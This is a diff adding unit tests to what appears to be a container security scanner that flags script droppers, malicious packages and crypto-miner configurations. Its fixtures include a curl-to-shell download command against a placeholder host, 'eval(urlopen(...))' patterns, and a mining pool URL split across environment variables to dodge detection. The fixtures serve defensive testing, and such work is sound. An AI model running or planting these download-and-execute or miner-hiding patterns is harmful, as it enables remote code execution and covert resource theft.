@@ -2,6 +2,7 @@
 import t from 'tap'
 import { podEnvironment, valueFromOf } from '../../src/detect/container-sources.ts'
 import { commandLines, containerTexts } from '../../src/detect/container-text.ts'
+import { describeInstall } from '../../src/detect/malicious-packages.ts'
 import { minerConfigSigns } from '../../src/detect/miner-config.ts'
 import { compileGrammar } from '../../src/detect/miner-grammar.ts'
 import { findScriptDroppers } from '../../src/detect/script-droppers.ts'
@@ -63,6 +64,32 @@ t.test('a line that executes without fetching or decoding is no dropper, and one
   const found: string[] = []
   findScriptDroppers('exec(x); urlopen(y)\nexec(z)\neval(1); eval(urlopen(2))', (kind, index) => found.push(`${kind}@${index}`))
   t.same(found, ['download-to-shell@0', 'download-to-shell@28'])
+})
+
+t.test('an unclosed backtick substitution runs to the end of its text', async (t) => {
+  const found: string[] = []
+  findScriptDroppers('sh -c "`curl http://x.example/i', (kind) => found.push(kind))
+  t.same(found, ['download-to-shell'])
+})
+
+t.test('a package listed for every version is named without a version', async (t) => {
+  t.equal(describeInstall({ ecosystem: 'npm', name: 'evil', version: undefined }), 'evil (npm)')
+  t.equal(describeInstall({ ecosystem: 'PyPI', name: 'x', version: '1' }), 'x 1 (PyPI)')
+})
+
+t.test('a mounted script that uses env variables is read shell-expanded', async (t) => {
+  const related: KubeObject[] = [
+    { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'boot', namespace: 'ns' }, data: { 'run.sh': './app -o ${P1}${P2}' } },
+  ]
+  const object = pod({
+    volumeMounts: [{ name: 'b', mountPath: '/b' }],
+    env: [
+      { name: 'P1', value: 'stratum+tc' },
+      { name: 'P2', value: 'p://p.example:1' },
+    ],
+  })
+  ;(object.spec as { volumes: unknown[] }).volumes = [{ name: 'b', configMap: { name: 'boot' } }]
+  t.match(messages(object, related).join('\n'), /stratum URL "stratum\+tcp:\/\/p\.example:1"/)
 })
 
 t.test('a mining port declared by a container counts beside other signs', async (t) => {
